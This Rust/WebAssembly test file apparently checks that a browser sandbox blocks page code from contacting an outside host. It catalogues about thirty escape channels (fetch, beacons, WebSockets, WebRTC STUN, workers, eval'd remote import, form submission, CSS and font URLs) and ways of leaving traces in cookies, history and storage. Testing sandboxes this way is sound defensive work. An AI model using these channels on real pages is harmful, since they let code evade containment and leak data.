//! Attacks with imports that the page does not have: each stops the build. Were it to go on, the boundary
//! would refuse them, and what they call is taken away, too.

use js_sys::{Array, Function, JSON, Promise, Reflect, global};
use wasm_bindgen::{JsCast, JsValue, prelude::wasm_bindgen};

use crate::{
    Attack,
    browser::{self, Any},
};

#[wasm_bindgen]
extern "C" {
    #[wasm_bindgen(catch)]
    fn fetch(address: &str) -> Result<Promise, JsValue>;
    #[wasm_bindgen(catch)]
    fn open(address: &str) -> Result<JsValue, JsValue>;
    #[wasm_bindgen(catch, js_name = setTimeout)]
    fn set_timeout(code: &str, after: u32) -> Result<JsValue, JsValue>;

    type RTCPeerConnection;
    #[wasm_bindgen(constructor, catch)]
    fn new(settings: &JsValue) -> Result<RTCPeerConnection, JsValue>;

    #[wasm_bindgen(method, setter, structural, catch, js_name = href)]
    fn set_href(this: &Any, address: &str) -> Result<(), JsValue>;
    #[wasm_bindgen(method, getter, structural, catch, js_name = location)]
    fn location(this: &Any) -> Result<Any, JsValue>;
    #[wasm_bindgen(method, getter, structural, catch, js_name = ownerDocument)]
    fn owner_document(this: &Any) -> Result<Any, JsValue>;
    #[wasm_bindgen(method, getter, structural, catch, js_name = defaultView)]
    fn default_view(this: &Any) -> Result<Any, JsValue>;
    #[wasm_bindgen(method, setter, structural, catch, js_name = action)]
    fn set_action(this: &Any, address: &str) -> Result<(), JsValue>;
    #[wasm_bindgen(method, structural, catch, js_name = submit)]
    fn submit(this: &Any) -> Result<(), JsValue>;
    #[wasm_bindgen(method, structural, catch, js_name = write)]
    fn write(this: &Any, markup: &str) -> Result<(), JsValue>;
    #[wasm_bindgen(method, setter, structural, catch, js_name = cookie)]
    fn set_cookie(this: &Any, cookie: &str) -> Result<(), JsValue>;
    #[wasm_bindgen(method, setter, structural, catch, js_name = src)]
    fn set_src(this: &Any, address: &str) -> Result<(), JsValue>;
}

type Done = Result<(), JsValue>;

fn at(host: &str) -> String {
    format!("http://{host}/")
}

fn get(object: &JsValue, path: &str) -> Result<JsValue, JsValue> {
    path.split('.').try_fold(object.clone(), |object, name| Reflect::get(&object, &name.into()))
}

/// Calls a function of the window's by its path.
fn call(path: &str, arguments: &[JsValue]) -> Result<JsValue, JsValue> {
    let window = global().into();
    let (owner, _) = path.rsplit_once('.').unwrap_or(("globalThis", ""));
    let function: Function = get(&window, path)?.dyn_into()?;
    Reflect::apply(&function, &get(&window, owner)?, &arguments.iter().collect::<Array>())
}

/// Makes an object of a class of the window's.
fn make(class: &str, arguments: &[JsValue]) -> Result<JsValue, JsValue> {
    let class: Function = get(&global().into(), class)?.dyn_into()?;
    Reflect::construct(&class, &arguments.iter().collect::<Array>())
}

fn servers(host: &str) -> Result<JsValue, JsValue> {
    JSON::parse(&format!(r#"{{"iceServers":[{{"urls":"stun:{host}:3478"}}]}}"#))
}

/// Has a connection look for its ways to the world.
fn gather(connection: &JsValue) -> Done {
    let method = |name: &str| -> Result<Function, JsValue> { get(connection, name)?.dyn_into() };
    method("createDataChannel")?.call1(connection, &"x".into())?;
    method("setLocalDescription")?.call0(connection).map(drop)
}

pub(crate) const ATTACKS: &[Attack] = &[
    ("location-href", |host| browser::window().location()?.set_href(&at(host))),
    ("location-assign", |host| call("location.assign", &[at(host).into()]).map(drop)),
    ("location-of-an-element", |host| {
        browser::element("content")?.owner_document()?.default_view()?.location()?.set_href(&at(host))
    }),
    ("navigation-api", |host| call("navigation.navigate", &[at(host).into()]).map(drop)),
    ("window-open", |host| open(&at(host)).map(drop)),
    ("rtc", |host| gather(RTCPeerConnection::new(&servers(host)?)?.as_ref())),
    ("rtc-by-reflection", |host| gather(&make("RTCPeerConnection", &[servers(host)?])?)),
    ("fetch", |host| fetch(&at(host)).map(drop)),
    ("fetch-by-reflection", |host| call("fetch", &[at(host).into()]).map(drop)),
    ("request", |host| {
        let request = make("XMLHttpRequest", &[])?;
        let method = |name: &str| -> Result<Function, JsValue> { get(&request, name)?.dyn_into() };
        method("open")?.call2(&request, &"GET".into(), &at(host).into())?;
        method("send")?.call0(&request).map(drop)
    }),
    ("beacon", |host| call("navigator.sendBeacon", &[at(host).into(), "x".into()]).map(drop)),
    ("socket", |host| make("WebSocket", &[format!("ws://{host}/").into()]).map(drop)),
    ("transport", |host| make("WebTransport", &[format!("https://{host}/").into()]).map(drop)),
    ("event-source", |host| make("EventSource", &[at(host).into()]).map(drop)),
    ("worker", |host| make("Worker", &[at(host).into()]).map(drop)),
    ("service-worker", |host| call("navigator.serviceWorker.register", &[at(host).into()]).map(drop)),
    ("image-object", |host| Any::from(make("Image", &[])?).set_src(&at(host))),
    ("code-as-text", |host| {
        Function::new_no_args(&format!("location = 'http://{host}/'")).call0(&JsValue::NULL).map(drop)
    }),
    ("code-as-a-timer", |host| set_timeout(&format!("location = 'http://{host}/'"), 0).map(drop)),
    ("code-imported", |host| js_sys::eval(&format!("import('http://{host}/')")).map(drop)),
    ("form-submit", |host| {
        let form = browser::put("form", &[])?;
        form.set_action(&at(host))?;
        form.submit()
    }),
    ("document-write", |host| browser::page()?.write(&format!("<link rel=dns-prefetch href=http://{host}/>"))),
    ("prototype-changed", |host| {
        // Whatever the page makes next is to be a link.
        let prototype = get(&global().into(), "Document.prototype")?;
        let link = call("document.createElement", &["link".into()])?;
        Reflect::set(&link, &"rel".into(), &"dns-prefetch".into())?;
        Reflect::set(&link, &"href".into(), &at(host).into())?;
        Reflect::set(&prototype, &"createElement".into(), &Function::new_no_args("return null").into())?;
        call("document.head.append", &[link]).map(drop)
    }),
    ("style-sheet-object", |host| {
        let sheet = make("CSSStyleSheet", &[])?;
        let insert: Function = get(&sheet, "insertRule")?.dyn_into()?;
        insert.call1(&sheet, &format!("body {{ background: url(http://{host}/) }}").into())?;
        let document = get(&global().into(), "document")?;
        Reflect::set(&document, &"adoptedStyleSheets".into(), &Array::of1(&sheet)).map(drop)
    }),
    ("font-object", |host| {
        let font = make("FontFace", &["x".into(), format!("url(http://{host}/)").into()])?;
        let load: Function = get(&font, "load")?.dyn_into()?;
        load.call0(&font).map(drop)
    }),
    // What stays behind in the browser rather than leaves it.
    ("kept-in-a-cookie", |host| browser::page()?.set_cookie(&format!("x={host}"))),
    ("kept-in-the-history", |host| {
        call("history.pushState", &[host.into(), "".into(), format!("#{host}").into()]).map(drop)
    }),
    ("kept-in-the-session", |host| call("sessionStorage.setItem", &["x".into(), host.into()]).map(drop)),
];
